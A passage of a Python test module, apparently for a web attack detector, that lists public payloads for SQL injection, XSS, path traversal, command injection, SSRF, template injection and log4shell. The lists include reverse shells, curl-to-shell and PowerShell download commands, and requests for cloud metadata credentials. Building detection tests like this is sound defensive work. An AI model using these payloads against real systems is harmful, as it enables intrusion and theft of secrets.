# ruff: noqa: E501, W291, RUF001 - payloads and user text, verbatim
"""Attack payloads from public lists, as the application receives them (URL-decoded once).

Sources: PayloadsAllTheThings' Intruder lists (SQL Injection: Auth_Bypass.txt,
Generic_TimeBased.txt, Generic_ErrorBased.txt, Generic_UnionSelect.txt; XSS
Injection: BRUTELOGIC-XSS-STRINGS.txt, xss_payloads_quick.txt, XSS_Polyglots.txt;
Directory Traversal: directory_traversal.txt; Command Injection:
command-execution-unix.txt, command_exec.txt; the SSRF and template injection
READMEs), the OWASP Web Security Testing Guide's examples, and the published
log4shell obfuscations. Lists are taken whole where their lines are payloads;
lines that are not attacks on their own (a lone quote or backtick) are left out.
Percent escapes inside a payload stay as written: the application then receives a
doubly-encoded value, which is what those lines are for.
"""

from __future__ import annotations

from typing import Any


def _lines(text: str) -> list[str]:
    return [line for line in text.split("\n") if line.strip()]


SQLI_AUTH_BYPASS = _lines(r"""
'-'
'&'
'^'
'*'
' or ''-'
' or '' '
' or ''&'
' or ''^'
' or ''*'
"-"
"&"
"^"
"*"
" or ""-"
" or "" "
" or ""&"
" or ""^"
" or ""*"
or true--
" or true--
' or true--
") or true--
') or true--
' or 'x'='x
') or ('x')=('x
')) or (('x'))=(('x
" or "x"="x
") or ("x")=("x
")) or (("x"))=(("x
or 1=1
or 1=1--
or 1=1#
or 1=1/*
admin' --
admin' #
admin'/*
admin' or '1'='1
admin' or '1'='1'--
admin' or '1'='1'#
admin' or '1'='1'/*
admin'or 1=1 or ''='
admin' or 1=1
admin' or 1=1--
admin' or 1=1#
admin' or 1=1/*
admin') or ('1'='1
admin') or ('1'='1'--
admin') or ('1'='1'#
admin') or ('1'='1'/*
admin') or '1'='1
admin') or '1'='1'--
admin') or '1'='1'#
admin') or '1'='1'/*
1234 ' AND 1=0 UNION ALL SELECT 'admin', '81dc9bdb52d04dc20036dbd8313ed055
admin" --
admin" #
admin"/*
admin" or "1"="1
admin" or "1"="1"--
admin" or "1"="1"#
admin" or "1"="1"/*
admin"or 1=1 or ""="
admin" or 1=1
admin" or 1=1--
admin" or 1=1#
admin" or 1=1/*
admin") or ("1"="1
admin") or ("1"="1"--
admin") or ("1"="1"#
admin") or ("1"="1"/*
admin") or "1"="1
admin") or "1"="1"--
admin") or "1"="1"#
admin") or "1"="1"/*
1234 " AND 1=0 UNION ALL SELECT "admin", "81dc9bdb52d04dc20036dbd8313ed055
""")
SQLI_TIME_BASED = _lines(r"""
sleep(5)#
1 or sleep(5)#
" or sleep(5)#
' or sleep(5)#
" or sleep(5)="
' or sleep(5)='
1) or sleep(5)#
") or sleep(5)="
') or sleep(5)='
1)) or sleep(5)#
")) or sleep(5)="
')) or sleep(5)='
;waitfor delay '0:0:5'--
);waitfor delay '0:0:5'--
';waitfor delay '0:0:5'--
";waitfor delay '0:0:5'--
');waitfor delay '0:0:5'--
");waitfor delay '0:0:5'--
));waitfor delay '0:0:5'--
'));waitfor delay '0:0:5'--
"));waitfor delay '0:0:5'--
benchmark(10000000,MD5(1))#
1 or benchmark(10000000,MD5(1))#
" or benchmark(10000000,MD5(1))#
' or benchmark(10000000,MD5(1))#
1) or benchmark(10000000,MD5(1))#
") or benchmark(10000000,MD5(1))#
') or benchmark(10000000,MD5(1))#
1)) or benchmark(10000000,MD5(1))#
")) or benchmark(10000000,MD5(1))#
')) or benchmark(10000000,MD5(1))#
pg_sleep(5)--
1 or pg_sleep(5)--
" or pg_sleep(5)--
' or pg_sleep(5)--
1) or pg_sleep(5)--
") or pg_sleep(5)--
') or pg_sleep(5)--
1)) or pg_sleep(5)--
")) or pg_sleep(5)--
')) or pg_sleep(5)--
||pg_sleep(5)--
1||pg_sleep(5)--
"||pg_sleep(5)--
'||pg_sleep(5)--
1)||pg_sleep(5)--
")||pg_sleep(5)--
')||pg_sleep(5)--
1))||pg_sleep(5)--
"))||pg_sleep(5)--
'))||pg_sleep(5)--
AND (SELECT * FROM (SELECT(SLEEP(5)))bAKL) AND 'vRxe'='vRxe
AND (SELECT * FROM (SELECT(SLEEP(5)))YjoC) AND '%'='
AND (SELECT * FROM (SELECT(SLEEP(5)))nQIP)
AND (SELECT * FROM (SELECT(SLEEP(5)))nQIP)--
AND (SELECT * FROM (SELECT(SLEEP(5)))nQIP)#
SLEEP(5)#
SLEEP(5)--
SLEEP(5)="
SLEEP(5)='
or SLEEP(5)
or SLEEP(5)#
or SLEEP(5)--
or SLEEP(5)="
or SLEEP(5)='
waitfor delay '00:00:05'
waitfor delay '00:00:05'--
waitfor delay '00:00:05'#
benchmark(50000000,MD5(1))
benchmark(50000000,MD5(1))--
benchmark(50000000,MD5(1))#
or benchmark(50000000,MD5(1))
or benchmark(50000000,MD5(1))--
or benchmark(50000000,MD5(1))#
pg_SLEEP(5)
pg_SLEEP(5)--
pg_SLEEP(5)#
or pg_SLEEP(5)
or pg_SLEEP(5)--
or pg_SLEEP(5)#
AnD SLEEP(5)
AnD SLEEP(5)--
AnD SLEEP(5)#
&&SLEEP(5)
&&SLEEP(5)--
&&SLEEP(5)#
' AnD SLEEP(5) ANd '1
'&&SLEEP(5)&&'1
ORDER BY SLEEP(5)
ORDER BY SLEEP(5)--
ORDER BY SLEEP(5)#
(SELECT * FROM (SELECT(SLEEP(5)))ecMj)
(SELECT * FROM (SELECT(SLEEP(5)))ecMj)#
(SELECT * FROM (SELECT(SLEEP(5)))ecMj)--
+benchmark(3200,SHA1(1))+'
+ SLEEP(10) + '
RANDOMBLOB(500000000/2)
AND 2947=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(500000000/2))))
OR 2947=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(500000000/2))))
SLEEP(1)/*' or SLEEP(1) or '" or SLEEP(1) or "*/
""")
# Generic_ErrorBased.txt and Generic_UnionSelect.txt lines are appended to a real value,
# so each arrives after one ("42", the id the attacker started from).
SQLI_APPENDED = ["42" + line for line in _lines(r"""
 OR 1=1
 OR 1=0
 OR x=x
 OR 1=1#
 OR x=y#
 OR 1=1-- 
 OR 3409=3409 AND ('pytW' LIKE 'pytW
 HAVING 1=1
 HAVING 1=0-- 
 AND 1=1
 AND 1=0-- 
 AND 1=1 AND '%'='
 AND 1083=1083 AND (1427=1427
 AND 7300=7300 AND 'pKlZ'='pKlZ
 AS INJECTX WHERE 1=1 AND 1=1
 WHERE 1=1 AND 1=0--
 ORDER BY 1-- 
 ORDER BY 30-- 
 ORDER BY 31337#
 RLIKE (SELECT (CASE WHEN (4346=4346) THEN 0x61646d696e ELSE 0x28 END)) AND 'Txws'='
 and (select substring(@@version,1,1))='X'
 ORDER BY 1,SLEEP(5),BENCHMARK(1000000,MD5('A')),4
 UNION ALL SELECT 1
 UNION ALL SELECT 1,2,3#
 UNION ALL SELECT 1,2,3,4,5,6,7,8,9,10-- 
 UNION SELECT @@VERSION,SLEEP(5),3
 UNION SELECT @@VERSION,SLEEP(5),USER(),BENCHMARK(1000000,MD5('A')),5#
""")] + _lines(r"""
%' AND 8310=8310 AND '%'='
IF(7423=7423) SELECT 7423 ELSE DROP FUNCTION xcjl--
1' ORDER BY 3--+
1' UNION SELECT null,table_name FROM information_schema.tables--
-1' UNION SELECT 1,group_concat(username,0x3a,password),3 FROM users--
1 AND extractvalue(1,concat(0x7e,(SELECT version())))
1' AND updatexml(null,concat(0x0a,version()),null)-- -
1; DROP TABLE users--
1'; EXEC master..xp_cmdshell 'ping 127.0.0.1'--
1' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64--
' OR EXISTS(SELECT * FROM users WHERE username='admin')--
1 AND 1=CONVERT(int,@@version)--
x' AND 1=(SELECT COUNT(*) FROM tabname); --
' UNION SELECT username, password FROM users--
1/**/UNION/**/SELECT/**/1,2,3
1 /*!50000UNION*/ /*!50000SELECT*/ 1,2
' or 1 like 1 --
admin'||'
1' and sleep(5) and '1'='1
""")
SQLI = SQLI_AUTH_BYPASS + SQLI_TIME_BASED + SQLI_APPENDED

XSS = _lines(r"""
<svg onload=alert(1)>
"><svg onload=alert(1)//
"onmouseover=alert(1)//
"autofocus/onfocus=alert(1)//
'-alert(1)-'
'-alert(1)//
\'-alert(1)//
</script><svg onload=alert(1)>
<x contenteditable onblur=alert(1)>lose focus!
<x onclick=alert(1)>click this!
<x oncopy=alert(1)>copy this!
<x oncontextmenu=alert(1)>right click this!
<x oncut=alert(1)>copy this!
<x ondblclick=alert(1)>double click this!
<x ondrag=alert(1)>drag this!
<x contenteditable onfocus=alert(1)>focus this!
<x contenteditable oninput=alert(1)>input here!
<x contenteditable onkeydown=alert(1)>press any key!
<x contenteditable onkeypress=alert(1)>press any key!
<x contenteditable onkeyup=alert(1)>press any key!
<x onmousedown=alert(1)>click this!
<x onmousemove=alert(1)>hover this!
<x onmouseout=alert(1)>hover this!
<x onmouseover=alert(1)>hover this!
<x onmouseup=alert(1)>click this!
<x contenteditable onpaste=alert(1)>paste here!
<script>alert(1)//
<script>alert(1)<!–
<script src=//brutelogic.com.br/1.js>
<script src=//3334957647/1>
%3Cx onxxx=alert(1)
<%78 onxxx=1
<x %6Fnxxx=1
<x o%6Exxx=1
<x on%78xx=1
<x onxxx%3D1
<X onxxx=1
<x OnXxx=1
<X OnXxx=1
<x onxxx=1 onxxx=1
<x/onxxx=1
<x%09onxxx=1
<x%0Aonxxx=1
<x%0Conxxx=1
<x%0Donxxx=1
<x%2Fonxxx=1
<x 1='1'onxxx=1
<x 1="1"onxxx=1
<x 1=">" onxxx=1
<http://onxxx%3D1/
<x onxxx=alert(1) 1='
<svg onload=setInterval(function(){with(document)body.appendChild(createElement('script')).src='//HOST:PORT'},0)>
'onload=alert(1)><svg/1='
'>alert(1)</script><script/1='
*/alert(1)</script><script>/*
*/alert(1)">'onload="/*<svg/1='
`-alert(1)">'onload="`<svg/1='
*/</script>'>alert(1)/*<script/1='
<script>alert(1)</script>
<script src=javascript:alert(1)>
<iframe src=javascript:alert(1)>
<embed src=javascript:alert(1)>
<a href=javascript:alert(1)>click
<math><brute href=javascript:alert(1)>click
<form action=javascript:alert(1)><input type=submit>
<isindex action=javascript:alert(1) type=submit value=click>
<form><button formaction=javascript:alert(1)>click
<form><input formaction=javascript:alert(1) type=submit value=click>
<object data=javascript:alert(1)>
<iframe srcdoc=<svg/o&#x6Eload&equals;alert&lpar;1)&gt;>
<svg><script xlink:href=data:,alert(1) />
<math><brute xlink:href=javascript:alert(1)>click
<html ontouchstart=alert(1)>
<html ontouchend=alert(1)>
<body onorientationchange=alert(1)>
"><img src=1 onerror=alert(1)>.gif
<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"/>
GIF89a/*<svg/onload=alert(1)>*/=alert(document.domain)//;
<script src="data:&comma;alert(1)//
"><script src=data:&comma;alert(1)//
<link rel=import href="data:text/html&comma;&lt;script&gt;alert(1)&lt;&sol;script&gt;
<base href=//0>
<body onload=alert(1)>
<body onpageshow=alert(1)>
<body onhashchange=alert(1)><a href=#x>click this!#x
<marquee onstart=alert(1)>
<marquee loop=1 width=0 onfinish=alert(1)>
<audio src onloadstart=alert(1)>
<video onloadstart=alert(1)><source>
<input autofocus onblur=alert(1)>
<keygen autofocus onfocus=alert(1)>
<form onsubmit=alert(1)><input type=submit>
<select onchange=alert(1)><option>1<option>2
javascript:alert(1)//INJECTX
<img src=x onerror=prompt(1)>//INJECTX
<a href="javascript:alert(1)" onmouseover=alert(1)>INJECTX HOVER</a>
 onmouseover="document.cookie=true;">//INJECTX
<svg><script>/<@/>alert(1)</script>//INJECTX
<iframe/onload=alert(/INJECTX/)>
<svg/onload=alert`INJECTX`>
}alert(/INJECTX/);{//
<h1/onclick=alert(1)>a//INJECTX
<video><source onerror="javascript:alert(1)">//INJECTX
<textarea autofocus onfocus=alert(1)>//INJECTX
<button form=test onformchange=alert(1)>//INJECTX
<svg onload=(alert)(1) >//INJECTX
<!--<img src="--><img src=x onerror=alert(1)//">//INJECTX
<img/src='x'onerror=alert(1)>//INJECTX
jaVasCript:/*-/*`/*\`/*'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\x3csVg/<sVg/oNloAd=alert()//>\x3e
';alert(String.fromCharCode(88,83,83))//';alert(String.fromCharCode(88,83,83))//";alert(String.fromCharCode(88,83,83))//";alert(String.fromCharCode(88,83,83))//--></SCRIPT>">'><SCRIPT>alert(String.fromCharCode(88,83,83))</SCRIPT>
javascript://'/</title></style></textarea></script>--><p" onclick=alert()//>*/alert()/*
javascript://--></script></title></style>"/</textarea>*/<alert()/*' onclick=alert()//>a
--></script></title></style>"/</textarea><a' onclick=alert()//>*/alert()/*
javascript:/*--></title></style></textarea></script></xmp><details/open/ontoggle='+/`/+/"/+/onmouseover=1/+/[*/[]/+alert(/@PortSwiggerRes/)//'>
<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>
<IMG SRC="jav	ascript:alert('XSS');">
<DIV STYLE="width: expression(alert('XSS'));">
<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">
javascript:alert(document.cookie)
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
""")

TRAVERSAL = _lines(r"""
\..\WINDOWS\win.ini
\..\..\WINDOWS\win.ini
\..\..\..\WINDOWS\win.ini
%5c%2e%2e%5c%2e%2e%5c%2e%2e%5c%2e%2e%5c%2e%2e%5c%2e%2e%5c%57%49%4e%44%4f%57%53%5c%77%69%6e%2e%69%6e%69
%5c%2e%2e%5c%2e%2e%5c%57%49%4e%44%4f%57%53%5c%77%69%6e%2e%69%6e%69
..%5c..%5c../winnt/system32/cmd.exe?/c+dir+c:\
..%5c..%5c..%5c..%5c..%5c../winnt/system32/cmd.exe?/c+dir+c:\
%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f%77%69%6e%6e%74%2f%73%79%73%74%65%6d%33%32%2f%63%6d%64%2e%65%78%65%3f%2f%63%2b%64%69%72%2b%63%3a%5c
../../../../../../../../../etc/passwd
../../../../../etc/passwd
../../../etc/passwd
%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f%65%74%63%2f%70%61%73%73%77%64
%2e%2e%2f%2e%2e%2f%65%74%63%2f%70%61%73%73%77%64
../../../.htaccess
../../.htaccess
../.htaccess
%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%68%74%61%63%63%65%73%73
../../../../../../../../../../../../etc/hosts%00
../../../../../../../../../../../../etc/hosts
../../boot.ini
../../../../../../../../../../../../etc/passwd%00
../../../../../../../../../../../../etc/shadow
/../../../../../../../../../../etc/passwd^^
/../../../../../../../../../../etc/shadow
/./././././././././././etc/passwd
\..\..\..\..\..\..\..\..\..\..\etc\passwd
..\..\..\..\..\..\..\..\..\..\etc\shadow
/..\../..\../..\../..\../..\../..\../etc/passwd
.\\./.\\./.\\./.\\./.\\./.\\./etc/passwd
\..\..\..\..\..\..\..\..\..\..\etc\passwd%00
%00/etc/passwd%00
%00../../../../../../etc/passwd
/../../../../../../../../../../../etc/passwd%00.jpg
/..%c0%af../..%c0%af../..%c0%af../..%c0%af../..%c0%af../..%c0%af../etc/passwd
/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd
%25%5c..%25%5c..%25%5c..%25%5c..%25%5c..%25%5c..%25%5c..%25%5c..%25%5c..%25%5c..%00
/%25%5c..%25%5c..%25%5c..%25%5c..%25%5c..%25%5c..%25%5c..%25%5c..%25%5c..winnt/desktop.ini
../../../../../../../../conf/server.xml
/../../../../../../../../bin/id|
C:/inetpub/wwwroot/global.asa
C:\inetpub\wwwroot\global.asa
C:/boot.ini
C:\boot.ini
../../../../../../../../../../../../localstart.asp
../../../../../../../../../../../../boot.ini%00
/./././././././././././boot.ini
/..\../..\../..\../..\../..\../..\../boot.ini
..%c0%af../..%c0%af../..%c0%af../..%c0%af../..%c0%af../..%c0%af../boot.ini
/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/boot.ini
/etc/passwd
/proc/self/environ
....//....//....//etc/passwd
..%252f..%252f..%252fetc/passwd
php://filter/convert.base64-encode/resource=index.php
php://input
expect://id
phar://uploads/avatar.jpg/shell.php
zip://uploads/shell.jpg%23payload.php
../../../../var/log/apache2/access.log
../../../../../../../home/ubuntu/.ssh/id_rsa
..;/..;/..;/WEB-INF/web.xml
../../../../../../app/.env
""")

COMMAND = _lines(r"""
/index.html|id|
";id;"
';id;'
;id;
;id
;netstat -a;
"|id|"
'|id|'
|id
|/usr/bin/id
|id|
"|/usr/bin/id|"
||/usr/bin/id|
|id;
;id|
;|/usr/bin/id|
`id`
`/usr/bin/id`
a);id
a;id
a);id;
a;id|
a)|id
a|id
|/bin/ls -al
a);/usr/bin/id
a;/usr/bin/id;
a)|/usr/bin/id
;system('cat%20/etc/passwd')
;system('id')
;system('/usr/bin/id')
%0Acat%20/etc/passwd
%0A/usr/bin/id
%0Aid
%0Aid%0A
"& ping -i 30 127.0.0.1 &"
& ping -i 30 127.0.0.1 &
& ping -n 30 127.0.0.1 &
%0a ping -i 30 127.0.0.1 %0a
`ping 127.0.0.1`
| id
& id
; id
$;/usr/bin/id
() { :;}; /bin/bash -c "curl http://135.23.158.130/.testing/shellshock.txt?vuln=16?user=\`whoami\`"
() { :;}; /bin/bash -c "sleep 1 && echo vulnerable 1"
() { :;}; echo vulnerable 10
$(`cat /etc/passwd`)
cat /etc/passwd
| curl http://crowdshield.com/.testing/rce.txt
& curl http://crowdshield.com/.testing/rce.txt
; curl https://crowdshield.com/.testing/rce_vuln.txt
&& curl https://crowdshield.com/.testing/rce_vuln.txt
$(`curl https://crowdshield.com/.testing/rce_vuln.txt?req=22jjffjbn`)
| dir
; dir
& dir C:\
&& dir C:\Users
| echo "<?php system($_GET['cmd'])| ?>" > cmd.php
; echo "<?php include($_GET['page']); ?>" > rfi.php
| nc -lvvp 4444 -e /bin/sh|
; nc -lvvp 4444 -e /bin/sh;
nc -lvvp 4444 -e /bin/sh
| net localgroup Administrators hacker /ADD
; net user hacker Password1 /ADD
| netsh firewall set opmode disable
; netstat -an
| ipconfig /all
& ifconfig
| ls -laR /etc
; ls -l /var/www/*
&& ls -l /tmp
| sleep 10
; sleep 5
&& sleep 15
|| sleep 10
| whoami
; uname -a
| pwd
<?php system("cat /etc/passwd");?>
;{$_GET["cmd"]}
127.0.0.1; cat /etc/passwd
127.0.0.1 && whoami
127.0.0.1 | nslookup attacker.example
8.8.8.8;curl${IFS}http://attacker.example/x|sh
$(whoami)
;${IFS}cat${IFS}/etc/passwd
{cat,/etc/passwd}
x;bash -i >& /dev/tcp/10.0.0.1/4242 0>&1
| powershell -nop -c "iex(New-Object Net.WebClient).DownloadString('http://x/a')"
& certutil -urlcache -split -f http://attacker.example/a.exe
""")

SSRF = _lines(r"""
http://127.0.0.1:80
http://127.0.0.1:22
http://0.0.0.0:80
http://localhost:80
http://localhost:22
https://127.0.0.1/
https://localhost/
http://[::]:80/
http://0000::1:80/
http://localtest.me
http://customer1.app.localhost.my.company.127.0.0.1.nip.io
http://127.127.127.127
http://127.0.1.3
http://2130706433/
http://3232235521/
http://2852039166/
http://0177.0.0.1/
http://[0:0:0:0:0:ffff:127.0.0.1]
http://0/
http://127.1
http://127.0.0.1/%61dmin
http://169.254.169.254/latest/meta-data/
http://169.254.169.254/latest/meta-data/iam/security-credentials/
http://169.254.169.254/latest/user-data
http://metadata.google.internal/computeMetadata/v1/
http://metadata.google.internal/computeMetadata/v1beta1/instance/service-accounts/default/token
http://169.254.169.254/metadata/instance?api-version=2021-02-01
http://100.100.100.200/latest/meta-data/
http://169.254.170.2/v2/credentials
http://[fd00:ec2::254]/latest/meta-data/
http://0xa9fea9fe/latest/meta-data/
http://0251.0376.0251.0376/
http://169.254.169.254.nip.io/
http://expected.example@169.254.169.254/
http://127.1.1.1:80\@127.2.2.2:80/
file:///etc/passwd
file://\/\/etc/passwd
dict://127.0.0.1:6379/CONFIG SET dir /var/www/html
gopher://127.0.0.1:6379/_config set dir /var/www/html
ldap://localhost:11211/%0astats%0aquit
netdoc:///etc/passwd
jar:http://127.0.0.1!/
tftp://attacker.example:12346/TESTUDPPACKET
http://10.0.0.1/admin
http://192.168.1.1/
http://172.16.0.5:8080/actuator/env
http://kubernetes.default.svc.cluster.local/api
http://ⓛⓞⓒⓐⓛⓗⓞⓢⓣ/
169.254.169.254/latest/meta-data/
""")

TEMPLATE = _lines(r"""
{{7*7}}
${7*7}
<%= 7*7 %>
${{7*7}}
#{7*7}
*{7*7}
{{7*'7'}}
{{config}}
{{config.items()}}
{{ ''.__class__.__mro__[2].__subclasses__() }}
{{''.__class__.__base__.__subclasses__()}}
{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}
{{ cycler.__init__.__globals__.os.popen('id').read() }}
{{ lipsum.__globals__["os"].popen('id').read() }}
{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}
{% import os %}{{ os.popen('id').read() }}
{{ get_flashed_messages.__globals__.__builtins__.open("/etc/passwd").read() }}
${T(java.lang.Runtime).getRuntime().exec('id')}
*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}
<#assign ex="freemarker.template.utility.Execute"?new()> ${ ex("id") }
{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}
{{['id']|filter('system')}}
{php}echo `id`;{/php}
<%= system("id") %>
#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))
{{constructor.constructor('alert(1)')()}}
${"freemarker.template.utility.Execute"?new()("id")}
{{ request|attr('application')|attr('\x5f\x5fglobals\x5f\x5f') }}
""")

JNDI = _lines(r"""
${jndi:ldap://attacker.example/a}
${jndi:rmi://attacker.example:1099/obj}
${jndi:dns://attacker.example/x}
${${lower:j}ndi:ldap://attacker.example/a}
${${::-j}${::-n}${::-d}${::-i}:ldap://attacker.example/a}
${${upper:j}${upper:n}${upper:d}${upper:i}:ldap://attacker.example/a}
${j${k8s:k5:-ND}i:ldap://attacker.example/a}
${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//attacker.example/a}
${jndi:${lower:l}${lower:d}a${lower:p}://attacker.example/a}
${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://attacker.example/a}
${jn${lower:d}i:ldap://attacker.example/a}
${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.attacker.example/a}
${${::-j}ndi:rmi://attacker.example/a}
%24%7Bjndi:ldap://attacker.example/a%7D
${jndi:ldaps://attacker.example/a}
""")

TOOL_USER_AGENTS = _lines(r"""
sqlmap/1.7.2#stable (https://sqlmap.org)
sqlmap/1.4.7#stable (http://sqlmap.org)
Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)
Nuclei - Open-source project (github.com/projectdiscovery/nuclei)
Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)
masscan/1.3 (https://github.com/robertdavidgraham/masscan)
Mozilla/5.0 zgrab/0.x
WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)
DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)
gobuster/3.6
Fuzz Faster U Fool v2.1.0-dev
feroxbuster/2.10.1
Wfuzz/3.1.0
Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.138 Safari/537.36 Acunetix-Aspect
Netsparker
Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/99.0.4844.84 Safari/537.36 OWASP_ZAP
OpenVAS-VT 21.4.3
Nessus SOAP
w3af.org
Arachni/v1.5.1
Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0; .NET CLR 2.0.50727) Havij
commix/v3.8-stable (https://commixproject.com)
WhatWeb/0.5.5
Mozilla/5.0 (Hydra)
ZmEu
Mozilla/5.0 Jorgee
""")

# Written after the detectors and run once, untuned (65 of 67 detected then; the two
# misses found a bug in 12-digit octal hosts and a file:// URL counted as SSRF).
LATER: list[tuple[str, str]] = [
 ("sql_injection", "1 AND 1=1"), ("sql_injection", "1' AND '1'='1"), ("sql_injection", "1 AND SLEEP(5)"),
 ("sql_injection", "' OR 'a'='a"), ("sql_injection", "admin' OR 1=1 LIMIT 1-- -"),
 ("sql_injection", "1' ORDER BY 1--+"), ("sql_injection", "1 UNION SELECT NULL--"),
 ("sql_injection", "' UNION SELECT NULL,NULL,NULL--"), ("sql_injection", "1 AND (SELECT 1 FROM (SELECT SLEEP(5))a)"),
 ("sql_injection", "1;SELECT pg_sleep(5)"), ("sql_injection", "' AND 1=CAST((SELECT version()) AS int)--"),
 ("sql_injection", "1' AND SUBSTRING(@@version,1,1)='5"), ("sql_injection", "') OR ('1'='1"),
 ("sql_injection", "1 OR 1=1 -- -"), ("sql_injection", "'; SHUTDOWN--"),
 ("sql_injection", "1%27%20OR%20%271%27%3D%271"), ("sql_injection", "1 AnD 1=1"),
 ("xss", "<ScRiPt>alert(1)</sCrIpT>"), ("xss", "<img src=x onerror=alert`1`>"),
 ("xss", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"), ("xss", "<details open ontoggle=alert(1)>"),
 ("xss", "\"><img src=x onerror=confirm(1)>"), ("xss", "javascript:confirm(1)"),
 ("xss", "<a href=\"jAvAsCrIpT:alert(1)\">x</a>"), ("xss", "<body onload=alert('XSS')>"),
 ("xss", "<iframe src=\"javascript:alert(1)\"></iframe>"), ("xss", "<input onfocus=alert(1) autofocus>"),
 ("xss", "'\"><script>alert(document.domain)</script>"), ("xss", "<object data=\"data:text/html,<script>alert(1)</script>\">"),
 ("path_traversal", "../../../../etc/passwd%00"), ("path_traversal", "..\\..\\..\\windows\\system32\\drivers\\etc\\hosts"),
 ("path_traversal", "%2e%2e/%2e%2e/%2e%2e/etc/shadow"), ("path_traversal", "....\\\\....\\\\windows\\\\win.ini"),
 ("path_traversal", "/var/log/nginx/access.log"), ("path_traversal", "../../../proc/self/cmdline"),
 ("path_traversal", "file:///c:/windows/win.ini"), ("path_traversal", "php://filter/read=string.rot13/resource=config.php"),
 ("command_injection", "; ls -la"), ("command_injection", "| cat /etc/shadow"), ("command_injection", "`uname -a`"),
 ("command_injection", "$(cat /etc/passwd)"), ("command_injection", "&& ping -c 3 127.0.0.1"),
 ("command_injection", "|| whoami"), ("command_injection", "\n/bin/sh -c id"), ("command_injection", "; wget http://evil.example/sh -O- | sh"),
 ("command_injection", "127.0.0.1%0Aid"), ("command_injection", "x|timeout 5"),
 ("ssrf", "http://169.254.169.254/latest/api/token"), ("ssrf", "http://[::1]:8080/"), ("ssrf", "http://127.0.0.1:6379/"),
 ("ssrf", "gopher://localhost:11211/_stats"), ("ssrf", "http://metadata/computeMetadata/v1/"),
 ("ssrf", "http://017700000001/"), ("ssrf", "http://0x7f000001/"),
 ("template_injection", "{{ 7 * 7 }}"), ("template_injection", "${7*'7'}"), ("template_injection", "{{self.__dict__}}"),
 ("template_injection", "{{ url_for.__globals__.os.popen('id').read() }}"), ("template_injection", "#{7*7}"),
 ("jndi_injection", "${jndi:ldap://127.0.0.1:1389/a}"), ("jndi_injection", "${${lower:jndi}:${lower:rmi}://x/a}"),
 ("jndi_injection", "${jndi:${lower:r}mi://x/a}"),
 ("attack_tool", "Mozilla/5.0 (compatible; Nuclei - Open-source project)"), ("attack_tool", "sqlmap/1.8#stable"),
 ("attack_tool", "Nikto"), ("attack_tool", "gobuster/3.1.0"), ("attack_tool", "Wfuzz/2.4"),
]


def corpus() -> list[tuple[str, dict[str, Any]]]:
    """(expected attack type, ``Inspector.inspect`` keyword arguments) for every payload,
    each delivered where such payloads are sent."""
    from urllib.parse import urlencode

    import orjson

    def query(**params: str) -> str:
        return urlencode(params)

    cases: list[tuple[str, dict[str, Any]]] = []
    for index, payload in enumerate(SQLI_AUTH_BYPASS):
        field = "password" if index % 4 == 3 else "username"
        cases.append(("sql_injection", {"form": {field: payload, "next": "/"}}))
    for index, payload in enumerate(SQLI_TIME_BASED + SQLI_APPENDED):
        if index % 3 == 2:
            body = orjson.dumps({"filter": {"id": payload}})
            cases.append(("sql_injection", {"body": body, "content_type": "application/json"}))
        else:
            cases.append(("sql_injection", {"query": query(id=payload, page="1")}))
    for index, payload in enumerate(XSS):
        if index % 3 == 2:
            cases.append(("xss", {"json": {"comment": {"body": payload}}}))
        else:
            cases.append(("xss", {"query": query(q=payload)}))
    for index, payload in enumerate(TRAVERSAL):
        if index % 5 == 4 and not payload.startswith(("php", "expect", "zip", "phar", "C:")):
            cases.append(("path_traversal", {"path": "/static/" + payload}))
        else:
            cases.append(("path_traversal", {"query": query(file=payload)}))
    for index, payload in enumerate(COMMAND):
        if payload.startswith("() {"):
            cases.append(("command_injection", {"headers": {"user-agent": payload}}))
        else:
            cases.append(("command_injection", {"form": {"host": payload}} if index % 2
                          else {"query": query(ip=payload)}))
    for index, payload in enumerate(SSRF):
        if index % 3 == 2:
            cases.append(("ssrf", {"json": {"webhook": {"url": payload}}}))
        else:
            cases.append(("ssrf", {"query": query(url=payload)}))
    for index, payload in enumerate(TEMPLATE):
        cases.append(("template_injection", {"form": {"name": payload}} if index % 2
